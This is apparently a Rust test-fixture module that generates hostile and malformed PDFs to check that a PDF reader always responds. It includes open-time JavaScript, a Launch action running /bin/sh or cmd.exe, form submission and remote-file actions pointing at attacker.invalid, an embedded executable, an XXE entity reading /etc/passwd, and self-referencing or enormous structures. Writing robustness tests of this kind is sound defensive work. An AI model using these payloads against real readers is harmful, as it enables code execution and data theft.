//! PDF that acts, loops or is broken (ISO 32000-2). How far it is read is the reader's affair; it must answer.

use super::Expected::Answered;
use super::Shelf;

/// A PDF of these objects, numbered from 1, the first of which is the catalogue.
pub(super) fn pdf(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut places = Vec::new();
    for (at, object) in objects.iter().enumerate() {
        places.push(out.len());
        out.extend(format!("{} 0 obj\n", at + 1).bytes());
        out.extend(object);
        out.extend(b"\nendobj\n");
    }
    let start = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for place in places {
        out.extend(format!("{place:010} 00000 n \n").bytes());
    }
    out.extend(
        format!(
            "trailer\n<</Size {}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n",
            objects.len() + 1
        )
        .bytes(),
    );
    out
}

/// A stream with these entries in its dictionary.
pub(super) fn stream(entries: &str, bytes: &[u8]) -> Vec<u8> {
    let mut out = format!("<<{entries}/Length {}>>\nstream\n", bytes.len()).into_bytes();
    out.extend(bytes);
    out.extend(b"\nendstream");
    out
}

const WORDS: &[u8] = b"BT /F1 12 Tf 72 720 Td (Popeth yn iawn.) Tj ET";
const FONT: &str = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";

/// The four objects of a page with these words, with more in the catalogue and in the page, then more objects (from 6).
pub(super) fn page(catalogue: &str, of_page: &str, contents: &[u8], more: &[&[u8]]) -> Vec<u8> {
    let mut objects: Vec<Vec<u8>> = vec![
        format!("<</Type/Catalog/Pages 2 0 R{catalogue}>>").into_bytes(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        format!("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>{of_page}>>").into_bytes(),
        stream("", contents),
        FONT.as_bytes().to_vec(),
    ];
    objects.extend(more.iter().map(|object| object.to_vec()));
    pdf(&objects, "")
}

pub(super) fn fill(shelf: &mut Shelf) {
    for (what, catalogue) in [
        (
            "a script at opening",
            "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
        ),
        (
            "a program at opening",
            "/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        ),
        (
            "an address at opening",
            "/OpenAction<</S/URI/URI(http://attacker.invalid/)>>",
        ),
        (
            "a form sent at opening",
            "/OpenAction<</S/SubmitForm/F(http://attacker.invalid/)>>",
        ),
        (
            "another file at opening",
            "/OpenAction<</S/GoToR/F(\\\\\\\\attacker.invalid\\\\x.pdf)>>",
        ),
        (
            "a file embedded",
            "/Names<</EmbeddedFiles<</Names[(a.exe) <</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]>>>>",
        ),
        (
            "names that are their own children",
            "/Names<</Dests<</Kids[1 0 R 1 0 R]>>>>",
        ),
        (
            "a form in XFA with an entity",
            "/AcroForm<</XFA(<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>)>>",
        ),
        (
            "an outline that is its own child",
            "/Outlines<</First 1 0 R/Last 1 0 R/Count 9>>",
        ),
    ] {
        shelf.put(Answered, "acts.pdf", what, page(catalogue, "", WORDS, &[]));
    }
    for (what, of_page) in [
        ("a script on the page", "/AA<</O<</S/JavaScript/JS(x)>>>>"),
        (
            "a page as large as the sky",
            "/MediaBox[0 0 1e38 1e38]/UserUnit 1e38",
        ),
        ("a page that is its own resource", "/Resources 3 0 R"),
        ("a page whose contents are the page", "/Contents 3 0 R"),
        (
            "contents that are 100,000 times the same",
            &format!("/Contents[{}]", "4 0 R ".repeat(100_000)),
        ),
        (
            "a picture of an address",
            "/Annots[<</Subtype/Link/A<</S/URI/URI(javascript:alert)>>>>]",
        ),
    ] {
        shelf.put(Answered, "page.pdf", what, page("", of_page, WORDS, &[]));
    }
    structures(shelf);
    damaged(shelf);
}

fn structures(shelf: &mut Shelf) {
    let catalogue = b"<</Type/Catalog/Pages 2 0 R>>".to_vec();
    for (what, pages) in [
        (
            "pages that are their own children",
            "<</Type/Pages/Kids[2 0 R]/Count 1>>".to_owned(),
        ),
        (
            "pages that are their own parents",
            "<</Type/Pages/Parent 2 0 R/Kids[2 0 R 2 0 R 2 0 R]/Count 3>>".to_owned(),
        ),
        (
            "a milliard pages that are none",
            "<</Type/Pages/Kids[]/Count 1000000000>>".to_owned(),
        ),
        (
            "fewer pages than none",
            "<</Type/Pages/Kids[3 0 R]/Count -1>>".to_owned(),
        ),
        (
            "lists 100,000 deep",
            format!(
                "<</Type/Pages/Kids {}{}>>",
                "[".repeat(100_000),
                "]".repeat(100_000)
            ),
        ),
        (
            "dictionaries 100,000 deep",
            format!("{}{}", "<</a".repeat(100_000), ">>".repeat(100_000)),
        ),
        ("a reference to itself", "2 0 R".to_owned()),
        (
            "a number beyond all numbers",
            "<</Type/Pages/Kids[99999999999999999999 0 R]/Count 1>>".to_owned(),
        ),
    ] {
        shelf.put(
            Answered,
            "pages.pdf",
            what,
            pdf(&[catalogue.clone(), pages.into_bytes()], ""),
        );
    }
    for (what, trailer) in [
        ("a table of places that is its own elder", "/Prev 9"),
        ("a table of places before the file", "/Prev -1"),
        (
            "a password",
            "/Encrypt<</Filter/Standard/V 5/R 6/Length 256/O(oooooooooooooooooooooooooooooooo)/U(uuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuu)/P -4>>/ID[(a)(b)]",
        ),
        (
            "a lock of no known kind",
            "/Encrypt<</Filter/Attacker/V 99>>",
        ),
    ] {
        let objects = [
            catalogue.clone(),
            b"<</Type/Pages/Kids[]/Count 0>>".to_vec(),
        ];
        shelf.put(Answered, "trailer.pdf", what, pdf(&objects, trailer));
    }
}

fn damaged(shelf: &mut Shelf) {
    let good = page("", "", WORDS, &[]);
    shelf.put(
        Answered,
        "cut.pdf",
        "cut in the middle",
        &good[..good.len() / 2],
    );
    shelf.put(
        Answered,
        "head.pdf",
        "five bytes of a PDF",
        b"%PDF-".as_slice(),
    );
    shelf.put(
        Answered,
        "late.pdf",
        "a kilobyte before its beginning",
        [vec![b' '; 1_000], good.clone()].concat(),
    );
    let lied = String::from_utf8_lossy(&good).replace("/Length 46", "/Length 9999999999");
    shelf.put(
        Answered,
        "length.pdf",
        "a stream longer than the file",
        lied,
    );
    shelf.put(
        Answered,
        "objects.pdf",
        "300,000 objects that are never closed",
        b"%PDF-1.7\n"
            .iter()
            .copied()
            .chain(b"1 0 obj<<".repeat(300_000))
            .collect::<Vec<u8>>(),
    );
}
